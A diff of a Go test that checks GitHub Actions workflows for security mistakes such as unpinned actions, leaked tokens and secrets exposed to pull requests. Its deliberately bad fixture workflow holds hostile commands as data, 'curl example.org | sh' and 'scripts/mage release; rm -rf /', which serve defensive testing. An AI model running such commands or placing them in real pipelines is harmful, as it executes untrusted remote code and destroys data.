@@ -2,35 +2,53 @@ package release
 
 import (
 	"bytes"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/google/go-cmp/cmp"
 	"go.yaml.in/yaml/v3"
+
+	"github.com/flatcar/oem-sysext/oem/arch"
 )
 
 // workflow is what the rules below look at.
 type workflow struct {
+	On          yaml.Node          `yaml:"on"`
 	Permissions *map[string]string `yaml:"permissions"`
-	Jobs        map[string]struct {
+	Concurrency struct {
+		Group string `yaml:"group"`
+	} `yaml:"concurrency"`
+	Env  map[string]string `yaml:"env"`
+	Jobs map[string]struct {
 		Permissions *map[string]string `yaml:"permissions"`
 		Timeout     int                `yaml:"timeout-minutes"`
-		Steps       []struct {
-			Uses string         `yaml:"uses"`
-			With map[string]any `yaml:"with"`
-			Run  string         `yaml:"run"`
-		} `yaml:"steps"`
+		Env         map[string]string  `yaml:"env"`
+		Steps       []workflowStep     `yaml:"steps"`
 	} `yaml:"jobs"`
+}
+
+type workflowStep struct {
+	Uses string            `yaml:"uses"`
+	With map[string]any    `yaml:"with"`
+	Run  string            `yaml:"run"`
+	If   string            `yaml:"if"`
+	Env  map[string]string `yaml:"env"`
 }
 
 var (
 	pinned = regexp.MustCompile(`^[a-z-]+/[a-z-]+@[0-9a-f]{40}$`)
 	// one target with at most one argument, and nothing for a shell to interpret but a variable
-	onlyMage = regexp.MustCompile(`^scripts/mage ((?:[a-z]+:)?[a-zA-Z]+)(?: (?:"\$VERSION"|[0-9]+|all))?$`)
+	onlyMage = regexp.MustCompile(`^scripts/mage ((?:[a-z]+:)?[a-zA-Z]+)(?: (?:"\$VERSION"|"\$PART"|[a-z0-9]+))?$`)
+	secret   = regexp.MustCompile(`secrets\.|github\.token`)
+	// targets that run what recipes bring, or what was built
+	building = regexp.MustCompile(`^scripts/mage (release|test|lint|build.*|prove.*|ci:prepare|ci:shard .*|ci:combine|ci:prove .*)$`)
 )
 
 // mistakes returns what is wrong with a workflow.
@@ -40,27 +58,87 @@ func mistakes(t *testing.T, content []byte, targets string) (wrong []string) {
 	if err := yaml.Unmarshal(content, &w); err != nil {
 		t.Fatal(err)
 	}
+	say := func(format string, args ...any) { wrong = append(wrong, fmt.Sprintf(format, args...)) }
 	if w.Permissions == nil || len(*w.Permissions) > 0 {
-		wrong = append(wrong, "jobs get permissions that they do not name")
+		say("jobs get permissions that they do not name")
+	}
+	if w.Concurrency.Group == "" {
+		say("two runs may be in each other's way")
+	}
+	events, err := yaml.Marshal(&w.On)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(events), "pull_request_target") || strings.Contains(string(events), "workflow_run") {
+		say("others' code may get our token")
+	}
+	forked := strings.Contains(string(events), "pull_request")
+	if hasSecret(w.Env) {
+		say("all jobs get a secret")
 	}
 	for name, job := range w.Jobs {
 		if job.Permissions == nil || job.Timeout == 0 {
-			wrong = append(wrong, name+": no permissions or no time limit")
+			say("%s: no permissions or no time limit", name)
+		}
+		if hasSecret(job.Env) {
+			say("%s: all steps get a secret", name)
+		}
+		writes, keys, removes := false, false, false
+		if job.Permissions != nil {
+			for _, level := range *job.Permissions {
+				writes = writes || level != "read"
+			}
+		}
+		if forked && writes {
+			say("%s: pull requests may write", name)
 		}
 		for _, step := range job.Steps {
-			if step.Uses != "" && !pinned.MatchString(step.Uses) {
-				wrong = append(wrong, step.Uses+": not pinned by a commit")
+			for _, mistake := range step.mistakes(targets) {
+				say("%s: %s", name, mistake)
 			}
-			if strings.HasPrefix(step.Uses, "actions/checkout@") && step.With["persist-credentials"] != false {
-				wrong = append(wrong, "the token is left in the checkout")
+			if forked && hasSecret(step.Env) {
+				say("%s: pull requests see a secret", name)
 			}
-			found := onlyMage.FindStringSubmatch(step.Run)
-			if step.Run != "" && (found == nil || !strings.Contains(strings.ToLower(targets), " "+strings.ToLower(found[1])+" ")) {
-				wrong = append(wrong, step.Run+": wanted one target of scripts/mage")
+			if writes && (building.MatchString(step.Run) || strings.HasPrefix(step.Uses, "actions/cache@")) {
+				say("%s: %s%s: what is built, or kept by other runs, gets a token that may write", name, step.Run, step.Uses)
 			}
+			keys = keys || step.Run == "scripts/mage ci:keys"
+			removes = removes || step.Run == "scripts/mage ci:removeKeys" && step.If == "always()"
+		}
+		if keys && !removes {
+			say("%s: keys are left", name)
 		}
 	}
 	return wrong
+}
+
+func (s workflowStep) mistakes(targets string) (wrong []string) {
+	if s.Uses != "" && !pinned.MatchString(s.Uses) {
+		wrong = append(wrong, s.Uses+": not pinned by a commit")
+	}
+	if strings.HasPrefix(s.Uses, "actions/checkout@") && s.With["persist-credentials"] != false {
+		wrong = append(wrong, "the token is left in the checkout")
+	}
+	if key, _ := s.With["key"].(string); strings.HasPrefix(s.Uses, "actions/cache@") && !strings.Contains(key, "hashFiles(") {
+		wrong = append(wrong, "the key of a cache is no digest of what it is for")
+	}
+	if path, _ := s.With["path"].(string); strings.HasPrefix(s.Uses, "actions/upload-artifact@") && !strings.HasPrefix(path, "_") {
+		wrong = append(wrong, path+": wanted one of the directories that results go to")
+	}
+	found := onlyMage.FindStringSubmatch(s.Run)
+	if s.Run != "" && (found == nil || !strings.Contains(strings.ToLower(targets), " "+strings.ToLower(found[1])+" ")) {
+		wrong = append(wrong, s.Run+": wanted one target of scripts/mage")
+	}
+	return wrong
+}
+
+func hasSecret(env map[string]string) bool {
+	for _, value := range env {
+		if secret.MatchString(value) {
+			return true
+		}
+	}
+	return false
 }
 
 // targets returns the names of all targets between blanks, as they are declared below magefiles.
@@ -104,8 +182,11 @@ func TestWorkflows(t *testing.T) {
 			t.Errorf("%s: %s", path, wrong)
 		}
 	}
-	command := exec.CommandContext(t.Context(), "go", append([]string{"tool", "-modfile=.ci/actionlint/go.mod", "actionlint", "-no-color", "-shellcheck=", "-pyflakes="},
-		".github/workflows/ci.yml", ".github/workflows/nightly.yml", ".github/workflows/release.yml")...)
+	args := []string{"tool", "-modfile=.ci/actionlint/go.mod", "actionlint", "-no-color", "-shellcheck=", "-pyflakes="}
+	for _, path := range paths {
+		args = append(args, strings.TrimPrefix(path, "../"))
+	}
+	command := exec.CommandContext(t.Context(), "go", args...)
 	command.Dir = ".."
 	if out, err := command.CombinedOutput(); err != nil {
 		t.Errorf("actionlint: %v\n%s", err, out)
@@ -114,31 +195,91 @@ func TestWorkflows(t *testing.T) {
 
 func TestMistakesInWorkflows(t *testing.T) {
 	const bad = `
+on: [pull_request]
+env: {A: "${{ secrets.A }}"}
 jobs:
   build:
+    env: {A: "${{ github.token }}"}
     steps:
       - uses: actions/checkout@v4
       - run: curl example.org | sh
       - run: scripts/mage release:nothing
       - run: scripts/mage release; rm -rf /
+      - run: scripts/mage ci:keys
+        env: {A: "${{ secrets.A }}"}
+  other:
+    timeout-minutes: 1
+    permissions: {contents: write}
+    steps:
+      - uses: actions/cache@0123456789012345678901234567890123456789
+        with: {path: .cache, key: always}
+      - uses: actions/upload-artifact@0123456789012345678901234567890123456789
+        with: {path: .}
+      - run: scripts/mage ci:shard "$PART"
 `
-	if got := mistakes(t, []byte(bad), targets(t)); len(got) != 7 {
-		t.Errorf("found %q", got)
+	want := []string{
+		"all jobs get a secret",
+		"build: all steps get a secret",
+		"build: actions/checkout@v4: not pinned by a commit",
+		"build: curl example.org | sh: wanted one target of scripts/mage",
+		"build: keys are left",
+		"build: no permissions or no time limit",
+		"build: pull requests see a secret",
+		"build: scripts/mage release:nothing: wanted one target of scripts/mage",
+		"build: scripts/mage release; rm -rf /: wanted one target of scripts/mage",
+		"build: the token is left in the checkout",
+		"jobs get permissions that they do not name",
+		"other: .: wanted one of the directories that results go to",
+		"other: actions/cache@0123456789012345678901234567890123456789: what is built, or kept by other runs, gets a token that may write",
+		"other: pull requests may write",
+		`other: scripts/mage ci:shard "$PART": what is built, or kept by other runs, gets a token that may write`,
+		"other: the key of a cache is no digest of what it is for",
+		"two runs may be in each other's way",
+	}
+	got := mistakes(t, []byte(bad), targets(t))
+	slices.Sort(got)
+	slices.Sort(want)
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Error(diff)
+	}
+	for _, event := range []string{"pull_request_target", "workflow_run"} {
+		got := mistakes(t, []byte("on: ["+event+"]\npermissions: {}\nconcurrency: {group: x}\n"), "")
+		if !slices.Contains(got, "others' code may get our token") {
+			t.Errorf("%s: %q", event, got)
+		}
 	}
 }
 
-func TestNightlyVersion(t *testing.T) {
-	file := filepath.Join(t.TempDir(), "env")
+func TestVersionsOfWorkflows(t *testing.T) {
+	dir := t.TempDir()
+	environment := map[string]string{"GITHUB_ENV": filepath.Join(dir, "env"), "GITHUB_OUTPUT": filepath.Join(dir, "output")}
+	getenv := func(name string) string { return environment[name] }
 	var out bytes.Buffer
 	at := time.Date(2026, 1, 2, 3, 4, 0, 0, time.UTC)
-	if err := NightlyVersion(Options{}, at, file, &out); err != nil {
+	if err := NightlyVersion(Options{}, at, getenv, &out); err != nil {
 		t.Fatal(err)
 	}
-	set, err := os.ReadFile(file)
-	if err != nil || string(set) != "VERSION=9999.0.0+nightly-20260102-0304\n" || out.String() != "9999.0.0+nightly-20260102-0304\n" {
-		t.Errorf("set %q, printed %q, %v", set, &out, err)
+	environment["GITHUB_REF_NAME"] = "1.2.3-amd64"
+	if err := TagVersion(Options{Arch: arch.AMD64}, getenv, &out); err != nil {
+		t.Fatal(err)
 	}
-	if err := NightlyVersion(Options{Version: "1.2"}, at, "", &out); err == nil || !strings.Contains(err.Error(), "VERSION: ") {
+	for name, want := range map[string]string{
+		"env": "VERSION=9999.0.0+nightly-20260102-0304\nVERSION=1.2.3\n", "output": "version=9999.0.0+nightly-20260102-0304\nversion=1.2.3\n",
+	} {
+		if set, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(set) != want {
+			t.Errorf("set %q, %v", set, err)
+		}
+	}
+	if out.String() != "9999.0.0+nightly-20260102-0304\n1.2.3\n" {
+		t.Errorf("printed %q", &out)
+	}
+	if err := NightlyVersion(Options{Version: "1.2"}, at, getenv, &out); err == nil || !strings.Contains(err.Error(), "VERSION: ") {
 		t.Errorf("error is %v", err)
+	}
+	for _, tag := range []string{"", "1.2.3", "1.2.3-arm64", "v1-amd64", "main", "../x-amd64"} {
+		environment["GITHUB_REF_NAME"] = tag
+		if err := TagVersion(Options{Arch: arch.AMD64}, getenv, &out); err == nil || !strings.Contains(err.Error(), "wanted a tag such as 9999.0.0-amd64") {
+			t.Errorf("%s: error is %v", tag, err)
+		}
 	}
 }
